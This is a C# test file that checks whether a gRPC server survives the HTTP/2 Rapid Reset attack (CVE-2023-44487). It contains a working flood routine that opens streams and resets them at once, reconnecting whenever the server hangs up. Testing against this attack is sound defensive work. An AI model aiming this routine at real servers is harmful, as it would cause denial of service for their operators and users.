using Edda.Testing;
using Edda.Testing.Http2;

namespace Edda.Attacks;

/// <summary>CVE-2023-44487: calls begun and reset at once, so that they never count against the stream limit.</summary>
public sealed class RapidResetTests
{
    private const int Attackers = 4;
    private const int CallsEach = 50_000;
    private const int CallsPerSend = 100;
    private const uint Cancel = 0x8;

    [RequiresFact(Requirement.PublishedBinaries)]
    public Task Calls_reset_as_soon_as_they_begin() =>
        Siege.WithstandsAsync((address, time) => AttackAsync(address, FrameFlags.EndHeaders | FrameFlags.EndStream, time));

    [RequiresFact(Requirement.PublishedBinaries)]
    public Task Calls_reset_while_their_request_is_awaited() =>
        Siege.WithstandsAsync((address, time) => AttackAsync(address, FrameFlags.EndHeaders, time));

    private static Task AttackAsync(string address, FrameFlags flags, CancellationToken time) =>
        Task.WhenAll(Enumerable.Range(0, Attackers).Select(_ => Task.Run(() => AttackOnceAsync(address, flags, time))));

    private static async Task AttackOnceAsync(string address, FrameFlags flags, CancellationToken time)
    {
        byte[] headers = FrameWriter.CallHeaders("/grpc.health.v1.Health/Check");
        var writer = new FrameWriter();
        int left = CallsEach;
        while (left > 0 && !time.IsCancellationRequested)
        {
            // A server that hangs up is attacked again at once, on a new connection.
            using RawConnection? connection = await RawConnection.TryOpenAsync(address, time);
            if (connection is null)
            {
                continue;
            }

            uint stream = 1;
            do
            {
                writer.Clear();
                for (int i = 0; i < CallsPerSend; i++, stream += 2)
                {
                    writer.Headers(stream, headers, flags).ResetStream(stream, Cancel);
                }

                left -= CallsPerSend;
            }
            while (left > 0 && await connection.TrySendAsync(writer.Written, time));
        }
    }
}
